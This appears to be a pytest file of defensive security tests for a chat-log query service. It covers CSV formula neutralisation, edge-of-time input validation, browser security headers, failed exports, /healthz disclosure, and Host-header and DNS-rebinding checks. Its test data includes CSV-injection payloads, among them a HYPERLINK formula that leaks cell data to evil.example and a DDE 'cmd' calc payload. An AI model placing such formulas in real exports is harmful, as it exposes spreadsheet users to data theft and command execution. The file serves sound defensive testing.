"""Attacks on the query service (`chatspan serve`) and `chatspan export`, each answered:
spreadsheet formulas in CSV exports, forged input at the edges of time, browser security
headers and the API docs page, exports whose database fails, what /healthz tells
strangers, Host headers (redirects, DNS rebinding of an --insecure server), and the
permissions of an exported file."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
import re
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import jwt
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text

from chatspan import semconv as sc
from chatspan.config import ApiSettings
from chatspan.query_api import create_app
from chatspan.query_api.state import state_of
from chatspan.records import SpanData, SpanEvent
from chatspan.store.engine import make_engine
from chatspan.store.writer import RecordWriter

from pgdb import libpq_dsn
from seed import BASE, seed
from servers import clean_env, run_chatspan_serve, wait_for

ADMIN_KEY = "attacks-admin-key-0123456789"
JWT_SECRET = "attacks-jwt-secret-0123456789abcdef"
CHATSPAN = str(Path(sys.executable).parent / "chatspan")
ADMIN = "/console/api/admin"
UNREACHABLE = "postgresql+psycopg://nobody@127.0.0.1:1/none"


@pytest.fixture
def api(database_url) -> Iterator[TestClient]:
    seed(database_url)
    settings = ApiSettings(
        database_url=database_url, admin_api_keys=(ADMIN_KEY,), jwt_secret=JWT_SECRET
    )
    app = create_app(settings)
    headers = {"Authorization": f"Bearer {ADMIN_KEY}"}
    with TestClient(app, headers=headers, raise_server_exceptions=False) as client:
        yield client
    state_of(app).engine.dispose()


def _user_token(user_id: str) -> str:
    return jwt.encode({"sub": user_id, "exp": int(time.time()) + 600}, JWT_SECRET, "HS256")


def _run(*args: str, **env: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [CHATSPAN, *args],
        env=clean_env(**env),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def _ns(seconds: int) -> int:
    return int(BASE.timestamp() + seconds) * 1_000_000_000


# -- 3. formulas in CSV exports ---------------------------------------------------------

# Each starts with a character a spreadsheet reads as the start of a formula.
FORMULAS = {
    "user_id": "=1+2",
    "app_id": "@SUM(A1:A9)",
    "conversation_id": "+1-1",
    "input_text": '=HYPERLINK("http://evil.example/?leak="&A2,"open")',
    "output_text": "-2+3",
    "model": "\t=cmd|' /C calc'!A0",
    "provider": "\r=1+1",
}


def _write_formula_rows(url: str) -> None:
    attributes = {
        sc.GEN_AI_OPERATION_NAME: "chat",
        sc.USER_ID: FORMULAS["user_id"],
        sc.DIFY_APP_ID: FORMULAS["app_id"],
        sc.GEN_AI_CONVERSATION_ID: FORMULAS["conversation_id"],
        sc.INPUT_VALUE: FORMULAS["input_text"],
        sc.OUTPUT_VALUE: FORMULAS["output_text"],
        sc.GEN_AI_REQUEST_MODEL: FORMULAS["model"],
        sc.GEN_AI_PROVIDER_NAME: FORMULAS["provider"],
    }
    event = SpanEvent(
        sc.EXCEPTION_EVENT,
        _ns(1),
        {
            sc.EXCEPTION_TYPE: "=2*3",
            sc.EXCEPTION_MESSAGE: "@now a=b",
            sc.EXCEPTION_STACKTRACE: "a bare CR\r=1+2\r\n-3",  # no row of its own
        },
    )
    spans = [
        SpanData(31, 32, "chat", _ns(0), _ns(1), False, attributes),
        SpanData(41, 42, "POST /x", _ns(0), _ns(1), True, {sc.USER_ID: "a=b"}, (event,)),
    ]
    engine = make_engine(url, timeout_s=30)
    RecordWriter(engine).write(spans)
    engine.dispose()


def _csv_rows(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body)))


def test_csv_exports_defuse_formulas_and_json_lines_keep_them_exact(database_url, tmp_path):
    _write_formula_rows(database_url)
    app = create_app(ApiSettings(database_url=database_url, admin_api_keys=(ADMIN_KEY,)))
    headers = {"Authorization": f"Bearer {ADMIN_KEY}"}
    with TestClient(app, headers=headers) as client:
        chats_csv = client.get(f"{ADMIN}/chat-logs/export", params={"format": "csv"}).text
        chats_jsonl = client.get(f"{ADMIN}/chat-logs/export", params={"format": "jsonl"}).text
        errors_csv = client.get(f"{ADMIN}/error-logs/export", params={"format": "csv"}).text
    state_of(app).engine.dispose()

    (chat,) = _csv_rows(chats_csv)
    for column, formula in FORMULAS.items():
        assert chat[column] == "'" + formula, column  # a quote first: text, never a formula
    (error,) = _csv_rows(errors_csv)
    assert error["type_error"] == "'=2*3"
    assert error["error_message"] == "'@now a=b"
    assert error["user_id"] == "a=b"  # only the first character matters
    assert error["stacktrace"] == "a bare CR\r=1+2\r\n-3"  # in its cell, whole
    for row in (chat, error):
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)

    (exact,) = [json.loads(line) for line in chats_jsonl.splitlines()]
    assert {column: exact[column] for column in FORMULAS} == FORMULAS

    command = subprocess.run(
        [CHATSPAN, "export", "--format", "csv"],
        env=clean_env(CHATSPAN_DATABASE_URL=database_url),
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert command.returncode == 0, command.stderr
    assert command.stdout.decode() == chats_csv  # the command writes what the API serves


# -- 8. forged input at the edges of time -------------------------------------------------

# Moments ISO 8601 can write; the first four have no UTC equivalent within years 1-9999.
BEYOND_TIME = [
    "0001-01-01T00:00:00+01:00",
    "0001-01-01T00:59:59+01:00",
    "9999-12-31T23:59:59-01:00",
    "9999-12-31T23:45:00-00:30",
]
AT_THE_EDGES = ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999Z", "9999-12-31T22:00:00Z"]
EDGES_OF_TIME = BEYOND_TIME + AT_THE_EDGES


def _cursor(moment: str) -> str:
    raw = json.dumps([moment, "00000000-0000-0000-0000-000000000000"]).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def _has_a_reason(response: httpx.Response) -> bool:
    detail = response.json()["detail"]
    return bool(detail if isinstance(detail, str) else detail[0]["msg"])


@pytest.mark.parametrize("moment", EDGES_OF_TIME)
def test_forged_cursors_at_the_edges_of_time_are_422_with_a_reason(api, moment):
    user = {"Authorization": f"Bearer {_user_token('user-1')}"}
    requests = [
        (f"{ADMIN}/chat-logs", {}),
        (f"{ADMIN}/error-logs", {}),
        (f"{ADMIN}/users/user-1/chat-history", {}),
        (f"{ADMIN}/users/user-1/chat-history", user),  # a user's own token reaches it too
    ]
    for path, headers in requests:
        response = api.get(path, params={"cursor": _cursor(moment)}, headers=headers)
        if moment in AT_THE_EDGES:  # representable: a valid page
            assert response.status_code == 200, response.text
            continue
        assert response.status_code == 422, (path, response.text)
        assert "cursor" in response.text


@pytest.mark.parametrize("moment", EDGES_OF_TIME)
@pytest.mark.parametrize("bound", ["since", "until"])
def test_windows_at_the_edges_of_time_never_cause_a_server_error(api, moment, bound):
    for path in (
        "chat-logs",
        "error-logs",
        "error-groups",
        "users/user-1/chat-history",
        "log-stats",
        "chat-logs/export",
        "error-logs/export",
    ):
        response = api.get(f"{ADMIN}/{path}", params={bound: moment})
        assert response.status_code < 500, (path, response.status_code, response.text)
        if response.status_code >= 400:
            assert response.status_code == 422 and _has_a_reason(response), response.text


def test_log_stats_since_a_moment_still_to_come_is_422_with_a_reason(api):
    # The reported case: no `until` means now, so the window would end before it starts.
    response = api.get(f"{ADMIN}/log-stats", params={"since": "9999-12-31T22:00:00Z"})
    assert response.status_code == 422, response.text
    assert "earlier than" in response.text
    last_day = api.get(
        f"{ADMIN}/log-stats",
        params={"since": "9999-12-31T00:00:00Z", "until": "9999-12-31T23:59:59.999999Z"},
    )
    assert last_day.status_code == 200, last_day.text  # the last day there is: 24 hours
    assert len(last_day.json()["series"]) == 24


# -- 9. browser security headers and the API docs ---------------------------------------


def _assert_browser_headers(response: httpx.Response) -> None:
    policy = response.headers.get("content-security-policy", "")
    assert "default-src 'none'" in policy, (response.url, policy)
    assert "frame-ancestors 'none'" in policy
    assert response.headers.get("x-frame-options") == "DENY"
    assert response.headers.get("x-content-type-options") == "nosniff"
    assert response.headers.get("referrer-policy") == "no-referrer"


def test_every_response_carries_the_browser_security_headers(api):
    responses = [
        api.get("/console/admin/"),
        api.get("/console/admin/admin.js"),
        api.get("/healthz"),
        api.get("/openapi.json"),
        api.get(f"{ADMIN}/chat-logs"),
        api.get(f"{ADMIN}/chat-logs", headers={"Authorization": ""}),  # 401
        api.get(f"{ADMIN}/chat-logs", params={"per_page": 0}),  # 422
        api.get(f"{ADMIN}/chat-logs/export"),
        api.get("/no-such-page"),  # 404
    ]
    assert [r.status_code for r in responses] == [200, 200, 200, 200, 200, 401, 422, 200, 404]
    for response in responses:
        _assert_browser_headers(response)
    page_policy = responses[0].headers["content-security-policy"]
    for directive in ("script-src 'self'", "style-src 'self'", "connect-src 'self'"):
        assert directive in page_policy
    assert "unsafe-inline" not in page_policy and "unsafe-eval" not in page_policy


def test_the_api_docs_are_served_only_when_asked_for(database_url):
    settings = ApiSettings(database_url=database_url, admin_api_keys=(ADMIN_KEY,))
    default = create_app(settings)
    with TestClient(default) as client:
        assert client.get("/docs").status_code == 404
        assert client.get("/redoc").status_code == 404
        assert client.get("/openapi.json").status_code == 200  # the schema stays
    state_of(default).engine.dispose()


def test_the_api_docs_page_pins_its_cdn_scripts_by_hash(database_url):
    app = create_app(ApiSettings(database_url=database_url, admin_api_keys=(ADMIN_KEY,)), docs=True)
    with TestClient(app) as client:
        page = client.get("/docs")
    state_of(app).engine.dispose()
    assert page.status_code == 200
    _assert_browser_headers(page)
    policy = page.headers["content-security-policy"]
    external = re.findall(r'<(?:script|link)[^>]*(?:src|href)="(https://[^"]+)"[^>]*>', page.text)
    assert len(external) == 2  # the bundle and its stylesheet
    for tag in re.findall(r"<(?:script|link)[^>]*https://[^>]*>", page.text):
        assert re.search(r'integrity="sha384-[A-Za-z0-9+/=]{64}"', tag), tag
        assert 'crossorigin="anonymous"' in tag
    for url in external:
        assert "@5." in url  # an exact version: its hash cannot change under it
        assert url in policy  # and no other file from the CDN is allowed
    (inline,) = re.findall(r"<script>(.*?)</script>", page.text, re.S)
    digest = base64.b64encode(hashlib.sha256(inline.encode()).digest()).decode()
    assert f"'sha256-{digest}'" in policy
    assert "unsafe-inline" not in policy


def test_serve_with_docs_serves_the_docs_page(database_url, tmp_path):
    env = clean_env(CHATSPAN_DATABASE_URL=database_url, CHATSPAN_ADMIN_API_KEYS=ADMIN_KEY)
    with run_chatspan_serve(tmp_path, env, args=["--docs"]) as server:
        assert httpx.get(f"{server.base_url}/docs").status_code == 200
    with run_chatspan_serve(tmp_path, env) as server:
        assert httpx.get(f"{server.base_url}/docs").status_code == 404


# -- 10. exports that fail -------------------------------------------------------------------


def test_an_export_with_the_database_down_is_503_before_any_byte():
    app = create_app(
        ApiSettings(database_url=UNREACHABLE, admin_api_keys=(ADMIN_KEY,), query_timeout_s=2)
    )
    headers = {"Authorization": f"Bearer {ADMIN_KEY}"}
    with TestClient(app, headers=headers) as client:
        for path in ("chat-logs/export", "error-logs/export"):
            for fmt in ("csv", "jsonl"):
                response = client.get(f"{ADMIN}/{path}", params={"format": fmt})
                assert response.status_code == 503, (path, fmt, response.text)
                assert response.headers["retry-after"]
                assert "database is unavailable" in response.json()["detail"]
    state_of(app).engine.dispose()


def test_the_export_command_with_the_database_down_fails_and_says_why():
    result = _run("export", CHATSPAN_DATABASE_URL=UNREACHABLE)
    assert result.returncode == 1
    assert result.stdout == ""
    assert "chatspan: export failed" in result.stderr
    assert "Traceback" not in result.stderr


BIG_TEXT = "x" * 2000


def _many_big_chats(url: str, count: int) -> None:
    engine = make_engine(url, timeout_s=120)
    with engine.begin() as connection:
        connection.execute(text('TRUNCATE dify_logs, "error"'))
    spans = (
        SpanData(
            1_000 + i,
            1_000 + i,
            "chat",
            _ns(i),
            _ns(i) + 1,
            False,
            {sc.GEN_AI_OPERATION_NAME: "chat", sc.USER_ID: f"user-{i}", sc.INPUT_VALUE: BIG_TEXT},
        )
        for i in range(count)
    )
    RecordWriter(engine).write(spans)
    engine.dispose()


def _cut_the_export_connection(url: str) -> None:
    """Terminate the backend serving the export: the one holding its cursor open."""
    import psycopg

    def exporting() -> list[int]:
        with psycopg.connect(libpq_dsn(url), autocommit=True) as connection:
            rows = connection.execute(
                "select pid from pg_stat_activity where datname = current_database() "
                "and pid <> pg_backend_pid() and state = 'idle in transaction'"
            ).fetchall()
            return [row[0] for row in rows]

    (pid,) = wait_for(exporting, what="the export's open cursor")
    with psycopg.connect(libpq_dsn(url), autocommit=True) as connection:
        connection.execute("select pg_terminate_backend(%s)", (pid,))


def _last_line(body: str) -> str:
    return body.rstrip("\r\n").rsplit("\n", 1)[-1]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_an_export_cut_mid_stream_ends_with_a_line_saying_it_is_incomplete(
    postgres_database, tmp_path, fmt
):
    url = postgres_database
    _many_big_chats(url, 20_000)  # about 40 MB: far more than the socket buffers hold
    env = clean_env(CHATSPAN_DATABASE_URL=url, CHATSPAN_ADMIN_API_KEYS=ADMIN_KEY)
    with run_chatspan_serve(tmp_path, env) as server:
        export = f"{server.base_url}{ADMIN}/chat-logs/export"
        headers = {"Authorization": f"Bearer {ADMIN_KEY}"}
        with httpx.stream("GET", export, params={"format": fmt}, headers=headers) as response:
            assert response.status_code == 200
            chunks = response.iter_text()
            body = next(chunks)
            _cut_the_export_connection(url)
            body += "".join(chunks)
    last = _last_line(body)
    rows = body.count(BIG_TEXT)
    assert 0 < rows < 20_000
    if fmt == "csv":
        (cell,) = next(csv.reader([last]))
        assert cell.startswith("#") and "incomplete" in cell  # no id (a UUID) starts so
        assert f"after {rows} rows" in cell
    else:
        marker = json.loads(last)
        assert set(marker) == {"error", "rows"} and "incomplete" in marker["error"]
        assert marker["rows"] == rows
    assert "export incomplete" in server.log()


def test_the_export_command_cut_mid_stream_exits_non_zero_and_says_so(postgres_database):
    url = postgres_database
    _many_big_chats(url, 5_000)  # 10 MB; a pipe holds 64 KB
    process = subprocess.Popen(
        [CHATSPAN, "export", "--format", "jsonl"],
        env=clean_env(CHATSPAN_DATABASE_URL=url),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        first = process.stdout.readline()
        _cut_the_export_connection(url)
        rest, errors = process.stdout.read(), process.stderr.read()
        process.wait(timeout=60)
    finally:
        process.kill()
    lines = [first, *rest.splitlines()]
    marker = json.loads(lines[-1])
    assert "incomplete" in marker["error"]
    assert marker["rows"] == len(lines) - 1 < 5_000
    assert process.returncode == 1
    assert "export incomplete" in errors
    assert "Traceback" not in errors


# -- 11. what /healthz tells, and Host headers ----------------------------------------------


def test_healthz_tells_a_stranger_only_whether_it_is_ok(api, spool_directory):
    anonymous = api.get("/healthz", headers={"Authorization": ""})
    assert anonymous.status_code == 200
    assert anonymous.json() == {"status": "ok"}
    user = api.get("/healthz", headers={"Authorization": f"Bearer {_user_token('user-1')}"})
    assert user.json() == {"status": "ok"}
    wrong = api.get("/healthz", headers={"Authorization": "Bearer wrong-key-0123456789abc"})
    assert wrong.json() == {"status": "ok"}
    admin = api.get("/healthz").json()  # the fixture's client sends the admin key
    assert admin["database"] == "reachable"
    assert admin["spool"]["directory"] == spool_directory


def test_healthz_names_the_chat_settings_skipped_to_admins_only(api, monkeypatch):
    monkeypatch.setenv("CHATSPAN_CHAT_ROUTES", '[{"pth": "/ask"}]')
    monkeypatch.setenv("CHATSPAN_CAPTURE_CONTENT", "nope")
    (route_problem,) = [p for p in api.get("/healthz").json()["settings"] if "ROUTES" in p]
    assert route_problem.startswith("CHATSPAN_CHAT_ROUTES[0]")
    assert any(
        p.startswith("CHATSPAN_CAPTURE_CONTENT") for p in api.get("/healthz").json()["settings"]
    )
    anonymous = api.get("/healthz", headers={"Authorization": ""}).json()
    assert anonymous == {"status": "ok"}
    monkeypatch.delenv("CHATSPAN_CHAT_ROUTES")
    monkeypatch.delenv("CHATSPAN_CAPTURE_CONTENT")
    assert api.get("/healthz").json()["settings"] == []


def test_healthz_with_the_database_down_tells_a_stranger_only_that(spool_directory):
    app = create_app(
        ApiSettings(database_url=UNREACHABLE, admin_api_keys=(ADMIN_KEY,), query_timeout_s=2)
    )
    with TestClient(app) as client:
        anonymous = client.get("/healthz")
        admin = client.get("/healthz", headers={"Authorization": f"Bearer {ADMIN_KEY}"})
    state_of(app).engine.dispose()
    assert anonymous.status_code == 503
    assert anonymous.json() == {"status": "unavailable"}
    assert spool_directory not in anonymous.text
    assert admin.status_code == 503
    assert admin.json()["database"] == "unreachable"


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/console/admin", "/console/admin/"),
        ("/console/api/admin/chat-logs/?per_page=5", "/console/api/admin/chat-logs?per_page=5"),
    ],
)
@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "[::1]:8000"])
def test_redirects_never_name_the_host_a_request_claimed(api, path, expected, host):
    response = api.get(path, headers={"Host": host}, follow_redirects=False)
    assert response.status_code == 307
    assert response.headers["location"] == expected


@pytest.mark.parametrize("host", ["evil.example/x", "evil.example@x", "a b", "x:y:z", "[zz]"])
def test_a_host_header_that_is_no_host_name_is_400(api, host):
    response = api.get("/console/admin", headers={"Host": host}, follow_redirects=False)
    assert response.status_code == 400
    assert "Host" in response.json()["detail"]


def _insecure_client(database_url: str, host: str) -> TestClient:
    app = create_app(ApiSettings(database_url=database_url), insecure=True)
    return TestClient(app, base_url=f"http://{host}")


@pytest.mark.parametrize("host", ["localhost", "localhost:8000", "127.0.0.1:8000", "[::1]:8000"])
def test_an_insecure_server_answers_loopback_host_names(database_url, host):
    seed(database_url)
    with _insecure_client(database_url, host) as client:
        response = client.get(f"{ADMIN}/chat-logs")
        assert response.status_code == 200, response.text
        assert response.json()["total"] == 60
    state_of(client.app).engine.dispose()


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:8000", "localhost.evil.example", "127.0.0.1.nip.io"]
)
def test_an_insecure_server_refuses_other_host_names(database_url, host):
    seed(database_url)
    with _insecure_client(database_url, host) as client:
        for path in (f"{ADMIN}/chat-logs", "/console/admin/", "/healthz", "/openapi.json"):
            response = client.get(path)
            assert response.status_code == 400, (path, response.text)
            assert "loopback" in response.json()["detail"]
            assert "user-1" not in response.text
    state_of(client.app).engine.dispose()


def test_serve_insecure_refuses_a_rebound_host_name(database_url, tmp_path):
    # DNS rebinding: a page on evil.example whose name now resolves to 127.0.0.1.
    seed(database_url)
    env = clean_env(CHATSPAN_DATABASE_URL=database_url)
    with run_chatspan_serve(tmp_path, env, args=["--insecure"]) as server:
        chats = f"{server.base_url}{ADMIN}/chat-logs"
        port = server.base_url.rsplit(":", 1)[1]
        rebound = httpx.get(chats, headers={"Host": f"evil.example:{port}"})
        assert rebound.status_code == 400
        assert "user-" not in rebound.text
        assert httpx.get(chats).json()["total"] == 60  # as 127.0.0.1 it answers


# -- 14. the exported file -------------------------------------------------------------------


def test_the_export_command_writes_a_file_only_its_owner_can_read(database_url, tmp_path):
    seed(database_url)
    fresh, existing = tmp_path / "fresh.csv", tmp_path / "existing.csv"
    existing.write_text("old")
    existing.chmod(0o644)
    for out in (fresh, existing):
        result = subprocess.run(
            [CHATSPAN, "export", "-o", str(out)],
            env=clean_env(CHATSPAN_DATABASE_URL=database_url),
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
            preexec_fn=lambda: os.umask(0o022),
        )
        assert result.returncode == 0, result.stderr
        assert stat.S_IMODE(out.stat().st_mode) == 0o600, out
        assert len(_csv_rows(out.read_text())) == 60
